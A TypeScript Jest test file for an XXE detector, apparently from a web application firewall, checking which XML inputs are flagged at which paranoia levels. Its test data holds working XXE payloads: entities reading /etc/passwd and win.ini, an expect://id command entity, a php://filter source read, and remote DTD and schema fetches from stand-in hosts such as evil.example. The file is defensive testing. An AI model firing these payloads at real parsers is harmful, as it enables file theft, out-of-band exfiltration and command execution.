import type { Paranoia } from '../types';
import { xxeDetector } from './xxe.detector';

const inspect = (value: string, paranoia: Paranoia = 1, point = 'body') => xxeDetector.inspect({ point, value, raw: value }, { paranoia });

describe('xxeDetector', () => {
  it.each([
    ['<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>', 'xxe/external-entity'],
    ['<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd">%remote;]>', 'xxe/parameter-entity'],
    ['<!DOCTYPE r [<!ENTITY x SYSTEM "expect://id">]><r>&x;</r>', 'xxe/external-entity'],
    ["<!DOCTYPE r [<!ENTITY x PUBLIC 'id' 'php://filter/convert.base64-encode/resource=index.php'>]>", 'xxe/external-entity'],
    ['<!DOCTYPE r SYSTEM "http://evil.example/evil.dtd"><r/>', 'xxe/external-dtd'],
    ['<!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>', 'xxe/entity-expansion'],
    ['<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></r>', 'xxe/xinclude'],
  ])('given %j, when inspected at paranoia 1, then it is a %s hit', (payload, detector) => {
    const hit = inspect(payload);
    expect(hit?.detector).toBe(detector);
    expect(hit?.type).toBe('xxe');
    expect(hit?.point).toBe('body');
    expect(hit?.payload.length).toBeGreaterThan(0);
  });

  it('given an XML payload in a form field, when inspected, then the field is the point', () => {
    expect(inspect('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///c:/windows/win.ini">]>', 1, 'body.xml')?.point).toBe('body.xml');
  });

  it.each([
    '<?xml version="1.0" encoding="UTF-8"?><order><id>5</id></order>',
    '<!DOCTYPE html><html><body>hi</body></html>',
    '<!-- a comment --> <p>text</p>',
    'please include the href= link in the mail',
    'R&D; 100% sure; %d;',
  ])('given the benign %j, when inspected at paranoia 1, then there is no hit', (value) => {
    expect(inspect(value)).toBeNull();
  });

  it('given an internal entity, when inspected, then only paranoia 2 flags it', () => {
    const doc = '<!DOCTYPE a [<!ENTITY company "Example Ltd">]><a>&company;</a>';
    expect(inspect(doc, 1)).toBeNull();
    expect(inspect(doc, 2)?.detector).toBe('xxe/entity-declaration');
  });

  it('given a long run of whitespace after an entity keyword, when inspected, then it returns quickly', () => {
    const started = performance.now();
    inspect('<!ENTITY a' + ' '.repeat(100000) + 'x', 4);
    expect(performance.now() - started).toBeLessThan(500);
  });

  it('given a schema location pointing at a URL in a parameter, when inspected, then it is an xxe/schema-location hit; in a whole XML body only at paranoia 2', () => {
    const probe = '<aai xmlns="http://a.b/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://a.b/ http://oob.example/aai.xsd">aai</aai>';
    expect(inspect(probe, 1, 'body.var')?.detector).toBe('xxe/schema-location');
    expect(inspect(probe, 1, 'body')).toBeNull();
    expect(inspect(probe, 2, 'body')?.detector).toBe('xxe/schema-location');
  });

  it('given a parameter entity declaration without its `<`, when inspected, then it is an xxe hit', () => {
    expect(inspect('foo!ENTITY % bar SYSTEM', 1, 'header.user-agent')?.detector).toBe('xxe/parameter-entity');
  });

  it.each(['the schemaLocation attribute names the schema', '<a href="http://example.com/">x</a>', 'ENTITY relationship diagram'])(
    'given the look-alike %j in a parameter, when inspected at paranoia 1, then nothing fires',
    (text) => {
      expect(inspect(text, 1, 'query.q')).toBeNull();
    },
  );
});
